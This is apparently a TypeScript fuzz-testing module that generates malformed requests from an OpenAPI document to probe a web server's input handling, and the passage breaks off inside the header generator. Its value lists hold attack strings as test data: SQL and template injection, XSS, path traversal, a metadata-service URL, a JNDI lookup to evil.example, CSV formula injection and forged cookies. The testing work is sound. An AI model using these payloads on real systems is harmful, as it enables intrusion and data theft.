import fc from 'fast-check';
import { PNG } from './oem-fixtures.js';

/*
 * Bad requests generated from the server's own OpenAPI document: for every operation, values shaped
 * like its parameters and body (so most requests get past the parser and into the handler), then
 * broken on purpose — a field of the wrong type, a boundary number, a huge or injection-shaped
 * string, a missing required field, an extra one, a malformed or oversized body, the wrong content
 * type, odd headers, path ids that are not UUIDs or name nothing. A new route is covered the moment
 * it is in the document.
 */

/** The part of an OpenAPI 3.1 document the generator reads. */
export type JsonSchema = { [key: string]: unknown };
export type OpenApiParameter = { in: string; name: string; required?: boolean; schema?: JsonSchema };
export type OpenApiOperation = {
  parameters?: OpenApiParameter[];
  requestBody?: { required?: boolean; content?: Record<string, { schema?: JsonSchema }> };
};
export type OpenApiDocument = {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components?: { schemas?: Record<string, JsonSchema> };
};

export type Operation = {
  method: string;
  /** The OpenAPI path, `{id}` style. */
  path: string;
  parameters: OpenApiParameter[];
  /** The first JSON or CSV body the operation documents, if any. */
  body?: { mediaType: string; schema: JsonSchema; required: boolean };
};

const HTTP_METHODS = new Set(['get', 'post', 'put', 'patch', 'delete']);

export function operationsOf(doc: OpenApiDocument): Operation[] {
  const ops: Operation[] = [];
  for (const [path, item] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(item)) {
      if (!HTTP_METHODS.has(method)) continue;
      const content = op.requestBody?.content ?? {};
      const mediaType = Object.keys(content)[0];
      ops.push({
        method: method.toUpperCase(),
        path,
        parameters: op.parameters ?? [],
        ...(mediaType
          ? {
              body: {
                mediaType,
                schema: content[mediaType]?.schema ?? {},
                required: op.requestBody?.required ?? false,
              },
            }
          : {}),
      });
    }
  }
  return ops;
}

/** What the generator draws real values from, so that some requests name things that exist. */
export type FuzzPools = {
  /** Ids of rows in the database (never the signed-in demo accounts'). */
  ids: readonly string[];
  /** Short text values found in the database: SKUs, lot codes, e-mail addresses, numbers … */
  strings: readonly string[];
};

/** A generated request, ready for `app.inject`. */
export type FuzzRequest = {
  method: string;
  url: string;
  headers: Record<string, string | string[]>;
  payload?: string | Buffer;
  /** What was broken on purpose, for the failure message. */
  broken: string[];
};

/** A JSON token written as is (numbers JSON.stringify cannot write: 1e309, 2^64, -0 …). */
class RawJson {
  constructor(readonly text: string) {}
}

/** Sets a key as an own, enumerable property, so `__proto__` is a key and not the prototype. */
function setKey(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

/** JSON.stringify that writes RawJson tokens verbatim. */
export function toJson(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value === undefined ? null : value, (_key, v: unknown) => {
    if (v instanceof RawJson) {
      raws.push(v.text);
      return `@@RAW${raws.length - 1}@@`;
    }
    return v;
  });
  return text.replace(/"@@RAW(\d+)@@"/g, (_m, i: string) => raws[Number(i)] ?? 'null');
}

// ——— nasty values ———

const HUGE = 'A'.repeat(100_000);
const nastyStrings: readonly string[] = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(257),
  'x'.repeat(5_000),
  HUGE,
  '\u0000',
  'abc\u0000def',
  '\uD800',
  '\uDFFF\uD800',
  '😀'.repeat(300),
  '\u202Eevil\u202C',
  '\u200B\uFEFF',
  'Ａｄｍｉｎ',
  'e\u0301\u0301\u0301\u0301',
  '直流屏'.repeat(50),
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; select pg_sleep(10)',
  '$1',
  '%s%s%s%n',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  'C:\\Windows\\win.ini',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '//evil.example/',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '2147483648',
  '0x10',
  '１２３',
  '2026-02-30',
  '2026-13-01',
  '0000-01-01',
  '9999-12-31',
  '-271821-04-20',
  '+275760-09-13',
  '2026-11-25T25:61:61Z',
  '2026-11-25T04:00:00+14:01',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'not-a-uuid',
  'Asia/Nowhere',
  'Etc/GMT+99',
  '../Asia/Shanghai',
  'a@b',
  '@',
  'a'.repeat(65) + '@example.com',
  'M-0000-0000',
  'm-oooo-iiii',
  'INV-9999-999999',
  'USD',
  'XXX',
  'line1\r\nSet-Cookie: x=1',
];

const nastyNumbers: readonly unknown[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  -0.000001,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e308,
  new RawJson('1e309'),
  new RawJson('-1e309'),
  new RawJson('-0'),
  new RawJson('18446744073709551616'),
  new RawJson('123456789012345678901234567890.5'),
  new RawJson('1.0000000000000000000001'),
  new RawJson('1E400'),
];

const nastyStructures: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  [{}],
  ['a', 1, null],
  { '': '' },
  Object.defineProperty({}, '__proto__', { value: { admin: true, role: 'admin' }, enumerable: true }),
  { constructor: { prototype: { admin: true } } },
  // Written as text: deeper than the generator's own recursion should go.
  new RawJson('['.repeat(2_000) + ']'.repeat(2_000)),
  new RawJson(`${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`),
  Array.from({ length: 5_000 }, (_, i) => i),
];

/** A value of any wrong shape: a string, a number, a structure. */
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nastyStrings) },
  { weight: 3, arbitrary: fc.constantFrom(...nastyNumbers) },
  { weight: 2, arbitrary: fc.constantFrom(...nastyStructures) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.uuid() },
);

const nastyKeys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'role',
  'id',
  'admin',
  'isAdmin',
  'version',
  '',
  '\u0000',
  'a'.repeat(1_000),
  '$where',
  'createdAt',
];

// ——— values shaped like a schema ———

type Ctx = {
  doc: OpenApiDocument;
  pools: FuzzPools;
  /** Every optional property present and arrays of one item: a value with every field to break. */
  complete?: boolean;
};

function resolve(ctx: Ctx, schema: JsonSchema): JsonSchema {
  let s = schema;
  for (let i = 0; i < 10 && typeof s.$ref === 'string'; i++) {
    const name = s.$ref.replace('#/components/schemas/', '');
    s = ctx.doc.components?.schemas?.[name] ?? {};
  }
  return s;
}

const num = (v: unknown): number | undefined => (typeof v === 'number' ? v : undefined);

function isoDay(d: Date): string {
  return d.toISOString().slice(0, 10);
}

const dayArb = fc
  .date({ min: new Date('2015-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
  .map(isoDay);

function stringArb(ctx: Ctx, s: JsonSchema): fc.Arbitrary<string> {
  const minLength = num(s.minLength) ?? 0;
  const maxLength = num(s.maxLength) ?? 60;
  const fits = (v: string) => v.length >= minLength && v.length <= maxLength;
  let pattern: RegExp | undefined;
  if (typeof s.pattern === 'string') {
    try {
      pattern = new RegExp(s.pattern);
    } catch {
      pattern = undefined;
    }
  }
  const fromPool = ctx.pools.strings.filter((v) => fits(v) && (!pattern || pattern.test(v)));
  const candidates: fc.Arbitrary<string>[] = [];
  if (s.format === 'uuid') {
    const ids = ctx.pools.ids;
    return fc.oneof(
      { weight: 4, arbitrary: ids.length > 0 ? fc.constantFrom(...ids) : fc.uuid() },
      { weight: 1, arbitrary: fc.uuid() },
    );
  }
  if (s.format === 'date') candidates.push(dayArb);
  else if (s.format === 'date-time') candidates.push(dayArb.map((d) => `${d}T08:30:00+08:00`));
  else if (s.format === 'email')
    candidates.push(fc.stringMatching(/^[a-z]{1,10}$/).map((local) => `${local}@example.com`));
  else if (pattern) candidates.push(fc.stringMatching(pattern).filter(fits));
  else
    candidates.push(
      fc.string({ minLength, maxLength: Math.min(maxLength, minLength + 24) }),
      fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, minLength + 12) }),
    );
  if (fromPool.length > 0) candidates.push(fc.constantFrom(...fromPool));
  return fc.oneof(...candidates);
}

/** A value that satisfies the schema, or nearly (patterns and formats are approximations). */
export function valueArb(ctx: Ctx, schema: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(ctx, schema);
  if (depth > 8) return fc.constant(null);
  if ('const' in s) return fc.constant(s.const);
  if (Array.isArray(s.enum) && s.enum.length > 0) return fc.constantFrom(...(s.enum as unknown[]));
  for (const key of ['anyOf', 'oneOf'] as const) {
    const options = s[key];
    if (Array.isArray(options) && options.length > 0) {
      return fc.oneof(...(options as JsonSchema[]).map((o) => valueArb(ctx, o, depth + 1)));
    }
  }
  if (Array.isArray(s.allOf) && s.allOf.length > 0) {
    const merged = (s.allOf as JsonSchema[]).map((o) => resolve(ctx, o));
    return valueArb(
      ctx,
      {
        type: 'object',
        properties: Object.assign({}, ...merged.map((m) => m.properties ?? {})) as JsonSchema,
        required: merged.flatMap((m) => (Array.isArray(m.required) ? (m.required as string[]) : [])),
      },
      depth + 1,
    );
  }
  if (Array.isArray(s.type)) {
    return fc.oneof(...(s.type as string[]).map((type) => valueArb(ctx, { ...s, type }, depth + 1)));
  }
  switch (s.type) {
    case 'object': {
      const properties = (s.properties ?? {}) as Record<string, JsonSchema>;
      const required = new Set(Array.isArray(s.required) ? (s.required as string[]) : []);
      const keys = Object.keys(properties);
      if (keys.length === 0) return fc.constant({});
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const key of keys) record[key] = valueArb(ctx, properties[key] ?? {}, depth + 1);
      return ctx.complete
        ? fc.record(record)
        : fc.record(record, { requiredKeys: keys.filter((k) => required.has(k)) });
    }
    case 'array': {
      const minLength = ctx.complete ? Math.max(num(s.minItems) ?? 0, 1) : (num(s.minItems) ?? 0);
      const maxLength = ctx.complete ? minLength : Math.min(num(s.maxItems) ?? 4, minLength + 4);
      return fc.array(valueArb(ctx, (s.items ?? {}) as JsonSchema, depth + 1), { minLength, maxLength });
    }
    case 'string':
      return stringArb(ctx, s);
    case 'integer':
    case 'number': {
      const exclusiveMin = num(s.exclusiveMinimum);
      const min = num(s.minimum) ?? (exclusiveMin !== undefined ? exclusiveMin + 1 : -5);
      const max = num(s.maximum) ?? Math.max(min + 1_000, 1_000);
      const lo = Math.max(min, -1e9);
      const hi = Math.min(max, 1e9);
      const small = fc.integer({
        min: Math.ceil(lo),
        max: Math.max(Math.ceil(lo), Math.min(Math.floor(hi), Math.ceil(lo) + 10)),
      });
      const any = fc.integer({ min: Math.ceil(lo), max: Math.max(Math.ceil(lo), Math.floor(hi)) });
      return s.type === 'integer'
        ? fc.oneof(small, any)
        : fc.oneof(small, any, fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true }));
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.constant(null));
  }
}

// ——— breaking a valid value ———

type Path = (string | number)[];

function pathsOf(value: unknown, path: Path = [], out: Path[] = []): Path[] {
  out.push(path);
  if (Array.isArray(value)) value.forEach((v, i) => pathsOf(v, [...path, i], out));
  else if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
    for (const [k, v] of Object.entries(value)) pathsOf(v, [...path, k], out);
  }
  return out;
}

function clone(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(clone);
  if (value !== null && typeof value === 'object' && !(value instanceof RawJson)) {
    const copy: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(value)) setKey(copy, k, clone(v));
    return copy;
  }
  return value;
}

type Mutation = 'replace' | 'delete' | 'extra' | 'wrap' | 'stringify';

/** Applies one mutation at the `pick`-th node of a copy of the value; returns what it did. */
function mutate(value: unknown, pick: number, how: Mutation, nasty: unknown, key: string): [unknown, string] {
  const root = clone(value);
  const paths = pathsOf(root);
  const path = paths[pick % paths.length] ?? [];
  const at = path.join('.') || '(root)';
  const parentPath = path.slice(0, -1);
  const last = path.at(-1);
  let parent: unknown = root;
  for (const p of parentPath) parent = (parent as Record<string | number, unknown>)[p];
  const get = (): unknown => (last === undefined ? root : (parent as Record<string | number, unknown>)[last]);
  const set = (v: unknown): unknown => {
    if (last === undefined) return v;
    if (Array.isArray(parent) && typeof last === 'number') parent[last] = v;
    else setKey(parent as Record<string, unknown>, String(last), v);
    return root;
  };
  switch (how) {
    case 'replace':
      return [set(nasty), `${at} := ${describe(nasty)}`];
    case 'delete':
      if (last === undefined) return [undefined, 'no body'];
      if (Array.isArray(parent) && typeof last === 'number') parent.splice(last, 1);
      else Reflect.deleteProperty(parent as Record<string, unknown>, String(last));
      return [root, `${at} deleted`];
    case 'extra': {
      const target = get();
      if (
        target !== null &&
        typeof target === 'object' &&
        !Array.isArray(target) &&
        !(target instanceof RawJson)
      ) {
        setKey(target as Record<string, unknown>, key, nasty);
        return [root, `${at}.${JSON.stringify(key).slice(0, 20)} added`];
      }
      return [set([get()]), `${at} wrapped in an array`];
    }
    case 'wrap':
      return [set([get()]), `${at} wrapped in an array`];
    case 'stringify': {
      const v = get();
      return [set(typeof v === 'string' ? Number.NaN : toJson(v)), `${at} as a string`];
    }
  }
}

function describe(v: unknown): string {
  const text = v instanceof RawJson ? v.text : typeof v === 'string' ? JSON.stringify(v) : toJson(v);
  return text.length > 60 ? `${text.slice(0, 57)}… (${text.length} chars)` : text;
}

const mutationArb = fc.record({
  how: fc.constantFrom<Mutation>('replace', 'replace', 'replace', 'delete', 'extra', 'wrap', 'stringify'),
  pick: fc.nat(),
  nasty: nastyValue,
  key: fc.oneof(fc.constantFrom(...nastyKeys), fc.string({ maxLength: 8 })),
});

/** A schema-shaped value with zero to three things broken. */
function brokenValueArb(ctx: Ctx, schema: JsonSchema): fc.Arbitrary<{ value: unknown; broken: string[] }> {
  return fc
    .tuple(
      valueArb(ctx, schema),
      fc.oneof(
        { weight: 1, arbitrary: fc.constant([]) },
        { weight: 5, arbitrary: fc.array(mutationArb, { minLength: 1, maxLength: 3 }) },
      ),
    )
    .map(([valid, mutations]) => {
      let value = valid;
      const broken: string[] = [];
      for (const m of mutations) {
        const [next, what] = mutate(value, m.pick, m.how, m.nasty, m.key);
        value = next;
        broken.push(what);
      }
      return { value, broken };
    });
}

// ——— bodies ———

type Body = { payload?: string | Buffer; contentType?: string; broken: string[] };

const jsonContentTypes = [
  'application/json',
  'application/json; charset=utf-8',
  'Application/JSON',
  'application/vnd.api+json',
];
const wrongContentTypes = [
  'text/plain',
  'text/csv',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data; boundary=zzz',
  'multipart/form-data',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json, text/plain',
  'application/octet-stream',
  '*/*',
  ';;;',
  'a'.repeat(2_000),
];

const malformedJson = [
  '',
  ' ',
  '{',
  '}',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '[1,2',
  'nul',
  'NaN',
  'undefined',
  '\u0000',
  '\uFEFF{}',
  '{"a":"\\u00"}',
  '{"a":"\\uD800"}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"a":1,"a":2}',
  '['.repeat(100_000) + ']'.repeat(100_000),
  `{"a":"${'b'.repeat(300 * 1024)}"}`,
];

function multipartBody(
  boundary: string,
  parts: { name: string; filename?: string; type?: string; content: Buffer }[],
): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`;
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${part.type ? `Content-Type: ${part.type}\r\n` : ''}\r\n`,
      ),
      part.content,
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

const fileContents: readonly Buffer[] = [
  PNG,
  Buffer.from('%PDF-1.4\n%âãÏÓ\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF'),
  Buffer.from('GIF89a'),
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  Buffer.from([0xff, 0xd8, 0xff]),
  Buffer.alloc(0),
  Buffer.from('MZ\u0090\u0000'),
];

/** Multipart bodies, well or badly formed. */
const multipartArb: fc.Arbitrary<Body> = fc
  .record({
    content: fc.oneof(
      fc.constantFrom(...fileContents),
      fc.uint8Array({ maxLength: 64 }).map((a) => Buffer.from(a)),
    ),
    filename: fc.option(
      fc.constantFrom('a.png', '../../etc/passwd', '', 'x'.repeat(500), 'a\u0000.png', '直流屏.pdf'),
    ),
    name: fc.constantFrom('file', 'files', '__proto__', ''),
    type: fc.option(fc.constantFrom('image/png', 'application/pdf', 'text/html', 'x/y')),
    twoFiles: fc.boolean(),
    extraField: fc.boolean(),
    boundary: fc.constantFrom('b0undary', 'x'.repeat(70), 'a'),
    headerBoundary: fc.constantFrom('same', 'other', 'missing'),
    truncate: fc.boolean(),
  })
  .map((m) => {
    const file = {
      name: m.name,
      content: m.content,
      ...(m.filename === null ? {} : { filename: m.filename }),
      ...(m.type === null ? {} : { type: m.type }),
    };
    const parts: { name: string; filename?: string; type?: string; content: Buffer }[] = [file];
    if (m.twoFiles) parts.push({ ...file, name: 'second' });
    if (m.extraField) parts.unshift({ name: 'note', content: Buffer.from('hello') });
    let payload = multipartBody(m.boundary, parts);
    if (m.truncate) payload = payload.subarray(0, Math.floor(payload.length / 2));
    const contentType =
      m.headerBoundary === 'same'
        ? `multipart/form-data; boundary=${m.boundary}`
        : m.headerBoundary === 'other'
          ? 'multipart/form-data; boundary=nope'
          : 'multipart/form-data';
    return {
      payload,
      contentType,
      broken: [
        `multipart (${parts.length} parts${m.truncate ? ', truncated' : ''}, boundary ${m.headerBoundary})`,
      ],
    };
  });

/** A CSV: the header the description names (when it names one), or any, then rows of odd cells. */
function csvArb(schema: JsonSchema): fc.Arbitrary<Body> {
  const description = typeof schema.description === 'string' ? schema.description : '';
  const named = /([a-z_]+(?:,[a-z_]+)+)/.exec(description)?.[1]?.split(',') ?? ['a', 'b'];
  const cell = fc.oneof(
    { weight: 3, arbitrary: fc.string({ maxLength: 12 }) },
    { weight: 1, arbitrary: fc.constantFrom(...nastyStrings.filter((s) => s.length < 200)) },
    { weight: 1, arbitrary: dayArb },
    {
      weight: 1,
      arbitrary: fc.constantFrom('"', '""', '"a""b"', '=cmd|" /C calc"!A0', '+1', '@SUM(1)', '\r', ','),
    },
  );
  const header: fc.Arbitrary<string[]> = fc.oneof(
    fc.constant(named),
    fc.shuffledSubarray(named),
    fc.constant<string[]>([...named, named[0] ?? 'a']),
    fc.array(fc.string({ maxLength: 6 }), { maxLength: 4 }),
  );
  return fc
    .record({
      header,
      rows: fc.array(fc.array(cell, { maxLength: named.length + 2 }), { maxLength: 6 }),
      lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
      bom: fc.boolean(),
      many: fc.integer({ min: 0, max: 9 }),
      contentType: fc.constantFrom(
        'text/csv',
        'text/csv; charset=utf-8',
        'text/csv; charset=gbk',
        'application/json',
      ),
    })
    .map((c) => {
      const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
      const lines = [c.header, ...c.rows].map((r) => r.map(quote).join(','));
      // Sometimes more rows than an import takes.
      if (c.many === 9) for (let i = 0; i < 5_001; i++) lines.push(lines[1] ?? 'x');
      return {
        payload: (c.bom ? '\uFEFF' : '') + lines.join(c.lineEnd),
        contentType: c.contentType,
        broken: [`csv of ${lines.length} lines`],
      };
    });
}

function bodyArb(ctx: Ctx, op: Operation): fc.Arbitrary<Body> {
  const none: fc.Arbitrary<Body> = fc.constant({ broken: op.body?.required ? ['no body'] : [] });
  const rawJunk: fc.Arbitrary<Body> = fc
    .tuple(fc.constantFrom(...malformedJson), fc.constantFrom(...jsonContentTypes))
    .map(([payload, contentType]) => ({ payload, contentType, broken: [`raw body ${describe(payload)}`] }));
  const huge: fc.Arbitrary<Body> = fc
    .constantFrom(255 * 1024, 256 * 1024 + 1, 2 * 1024 * 1024)
    .map((size) => ({
      payload: toJson({ padding: 'x'.repeat(size) }),
      contentType: 'application/json',
      broken: [`body of ${size} bytes`],
    }));
  if (!op.body) {
    return fc.oneof(
      { weight: 6, arbitrary: none },
      { weight: 1, arbitrary: rawJunk },
      { weight: 1, arbitrary: multipartArb },
      { weight: 1, arbitrary: huge },
      {
        weight: 1,
        arbitrary: nastyValue.map((v) => ({
          payload: toJson(v),
          contentType: 'application/json',
          broken: ['unexpected body'],
        })),
      },
    );
  }
  if (op.body.mediaType === 'text/csv') {
    return fc.oneof(
      { weight: 6, arbitrary: csvArb(op.body.schema) },
      { weight: 1, arbitrary: none },
      { weight: 1, arbitrary: rawJunk },
      { weight: 1, arbitrary: huge },
    );
  }
  const json = fc
    .tuple(brokenValueArb(ctx, op.body.schema), fc.constantFrom(...jsonContentTypes))
    .map(([{ value, broken }, contentType]): Body =>
      value === undefined ? { broken } : { payload: toJson(value), contentType, broken },
    );
  const wrongType = fc
    .tuple(valueArb(ctx, op.body.schema), fc.constantFrom(...wrongContentTypes))
    .map(([value, contentType]) => ({
      payload: toJson(value),
      contentType,
      broken: [`content-type ${contentType}`],
    }));
  return fc.oneof(
    { weight: 14, arbitrary: json },
    { weight: 2, arbitrary: rawJunk },
    { weight: 2, arbitrary: wrongType },
    { weight: 1, arbitrary: none },
    { weight: 1, arbitrary: huge },
    { weight: 1, arbitrary: multipartArb },
  );
}

// ——— the URL ———

/** encodeURIComponent, but a lone surrogate (which it refuses) is sent as U+FFFD. */
function encode(value: string): string {
  return encodeURIComponent(
    value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'),
  );
}

/** How a path or query value is written into the URL: encoded, or raw (broken percent escapes too). */
function encodeArb(value: string): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant(encode(value)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('%', '%zz', '%E0%A4%A', '%00', '%C0%AF', '%2e%2e%2f', '..', '.', '%2F'),
    },
    { weight: 1, arbitrary: fc.constant(encode(value).replaceAll('%', '%25%')) },
  );
}

function paramText(v: unknown): string {
  if (typeof v === 'string') return v;
  if (v instanceof RawJson) return v.text;
  return toJson(v);
}

function pathParamArb(ctx: Ctx): fc.Arbitrary<{ text: string; broken?: string }> {
  const ids = ctx.pools.ids;
  return fc.oneof(
    {
      weight: 5,
      arbitrary: (ids.length > 0 ? fc.constantFrom(...ids) : fc.uuid()).map((text) => ({ text })),
    },
    { weight: 2, arbitrary: fc.uuid().map((text) => ({ text, broken: 'random uuid' })) },
    {
      weight: 1,
      arbitrary: (ids.length > 0 ? fc.constantFrom(...ids) : fc.uuid()).map((id) => ({
        text: id.toUpperCase(),
        broken: 'upper-case id',
      })),
    },
    {
      weight: 4,
      arbitrary: nastyValue.chain((v) =>
        encodeArb(paramText(v)).map((text) => ({ text, broken: `path id ${describe(paramText(v))}` })),
      ),
    },
  );
}

function queryArb(ctx: Ctx, op: Operation): fc.Arbitrary<{ query: string; broken: string[] }> {
  const params = op.parameters.filter((p) => p.in === 'query');
  const one = (p: OpenApiParameter) =>
    fc
      .record({
        mode: fc.constantFrom('valid', 'valid', 'valid', 'omit', 'nasty', 'twice'),
        valid: valueArb(ctx, p.schema ?? {}).map(paramText),
        nasty: nastyValue.map(paramText),
      })
      .chain((r) => {
        const raw = r.mode === 'nasty' ? r.nasty : r.valid;
        return encodeArb(raw).map((encoded) => {
          const name = encode(p.name);
          const broken =
            r.mode === 'omit' && p.required
              ? [`${p.name} omitted`]
              : r.mode === 'nasty'
                ? [`${p.name}=${describe(raw)}`]
                : r.mode === 'twice'
                  ? [`${p.name} twice`]
                  : [];
          if (r.mode === 'omit') return { parts: [] as string[], broken };
          if (r.mode === 'twice')
            return { parts: [`${name}=${encoded}`, `${name}=${encode(r.nasty)}`], broken };
          return { parts: [`${name}=${encoded}`], broken };
        });
      });
  const extra = fc.option(
    fc.constantFrom(
      '__proto__[admin]=1',
      'constructor[prototype][admin]=1',
      '__proto__=x',
      'limit[]=1',
      'a=1&a=2',
      '&&&',
      '=',
      'x'.repeat(10_000) + '=1',
      'lang=xx-YY',
    ),
    { freq: 5 },
  );
  return fc.tuple(fc.tuple(...params.map(one)), extra).map(([each, more]) => {
    const parts = each.flatMap((e) => e.parts);
    const broken = each.flatMap((e) => e.broken);
    if (more !== null) {
      parts.push(more);
      broken.push(`query ${describe(more)}`);
    }
    return { query: parts.join('&'), broken };
  });
}

// ——— headers ———

export type Caller = { name: string; cookie?: string };

function headersArb(ctx: Ctx, op: Operation, caller: Caller, origin: string) {
  const headerParams = op.parameters.filter((p) => p.in === 'header');
  const cookie = caller.cookie;
  const cookieArb: fc.Arbitrary<{ value?: string | string[]; broken?: string }> = cookie
    ? fc.oneof(
        { weight: 12, arbitrary: fc.constant({ value: cookie }) },
        { weight: 1, arbitrary: fc.constant({ value: `${cookie}x`, broken: 'tampered session cookie' }) },
        {
          weight: 1,
          arbitrary: fc.constant({
            value: `${cookie.split('=')[0] ?? ''}=${'A'.repeat(4_000)}`,
            broken: 'forged session cookie',
          }),
        },
        {
          weight: 1,
          arbitrary: fc.constant({ value: `junk=%%; ${cookie}; ;;=`, broken: 'junk around the cookie' }),
        },
        {
          weight: 1,
          arbitrary: fc.constant({
            value: [cookie, 'aftersales.session_token=zzz'],
            broken: 'two cookie headers',
          }),
        },
        { weight: 1, arbitrary: fc.constant({ broken: 'no cookie' }) },
      )
    : fc.oneof(
        { weight: 8, arbitrary: fc.constant({}) },
        {
          weight: 1,
          arbitrary: fc.constant({
            value: 'aftersales.session_token=forged.value',
            broken: 'forged session cookie',
          }),
        },
        {
          weight: 1,
          arbitrary: fc
            .uuid()
            .map((id) => ({ value: `aftersales.session_token=${id}`, broken: 'guessed session cookie' })),
        },
        {
          weight: 1,
          arbitrary: fc.constant({
            value: '__Secure-aftersales.session_token=; =; %00',
            broken: 'junk cookie',
          }),
        },
      );
  type OriginChoice = { headers: Record<string, string | string[]>; broken?: string };
  const originArb: fc.Arbitrary<OriginChoice> = fc.oneof(
    { weight: 12, arbitrary: fc.constant<OriginChoice>({ headers: { origin } }) },
    { weight: 1, arbitrary: fc.constant<OriginChoice>({ headers: {}, broken: 'no origin' }) },
    {
      weight: 1,
      arbitrary: fc.constant<OriginChoice>({
        headers: { referer: `${origin}/claims` },
        broken: 'referer only',
      }),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(
          'http://evil.example',
          'null',
          '',
          `${origin}.evil.example`,
          origin.toUpperCase(),
          `${origin}/`,
          'not a url',
        )
        .map((o): OriginChoice => ({ headers: { origin: o }, broken: `origin ${o}` })),
    },
    {
      weight: 1,
      arbitrary: fc.constant<OriginChoice>({
        headers: { origin: [origin, 'http://evil.example'] },
        broken: 'two origins',
      }),
    },
  );
  const optional = (name: string, values: readonly (string | string[])[], freq: number) =>
    fc.option(
      fc.constantFrom(...values).map((v) => [name, v] as const),
      { freq },
    );
  const params = fc.tuple(
    ...headerParams.map((p) =>
      fc
        .record({
          mode: fc.constantFrom('valid', 'valid', 'omit', 'nasty'),
          valid: valueArb(ctx, p.schema ?? {}),
          nasty: fc.constantFrom(...nastyStrings),
        })
        .map((r) => {
          if (r.mode === 'omit') return { entries: [] as [string, string][], broken: [] as string[] };
          // Header values are latin-1 without control characters: what a real socket could carry.
          const raw = r.mode === 'nasty' ? r.nasty : paramText(r.valid);
          const value = raw.replace(/[^\u0020-\u007e\u00a0-\u00ff]/g, '?');
          return {
            entries: [[p.name, value]] as [string, string][],
            broken: r.mode === 'nasty' ? [`${p.name}: ${describe(value)}`] : [],
          };
        }),
    ),
  );
  return fc
    .record({
      cookie: cookieArb,
      origin: originArb,
      params,
      acceptLanguage: optional(
        'accept-language',
        [
          'zh-CN,zh;q=0.9',
          'en',
          '*',
          ';;;q=abc',
          'zh-Hant-TW-x-private-a-b-c',
          'x'.repeat(5_000),
          ['zh', 'en'],
          ',',
          'q=1',
        ],
        2,
      ),
      accept: optional(
        'accept',
        ['text/html', '*/*', 'image/png', 'application/xml', ';', 'application/json;q=0'],
        4,
      ),
      other: optional(
        'x-forwarded-for',
        ['1.2.3.4, 5.6.7.8', 'not-an-ip', '::1', ['1.1.1.1', '2.2.2.2'], ''],
        6,
      ),
      // Rare on purpose: any Authorization is a machine's key attempt now (answered 401 at the door),
      // and a request stopped there exercises none of the route's inputs.
      authorization: fc.oneof(
        { weight: 7, arbitrary: fc.constant(null) },
        {
          weight: 1,
          arbitrary: fc
            .constantFrom('Bearer x', 'Basic Og==', 'Bearer ' + 'a'.repeat(3_000))
            .map((v) => ['authorization', v] as const),
        },
      ),
    })
    .map((h) => {
      const headers: Record<string, string | string[]> = { ...h.origin.headers };
      const broken: string[] = [];
      if (h.origin.broken) broken.push(h.origin.broken);
      if (h.cookie.value !== undefined) headers.cookie = h.cookie.value;
      if (h.cookie.broken) broken.push(h.cookie.broken);
      for (const p of h.params) {
        for (const [k, v] of p.entries) headers[k] = v;
        broken.push(...p.broken);
      }
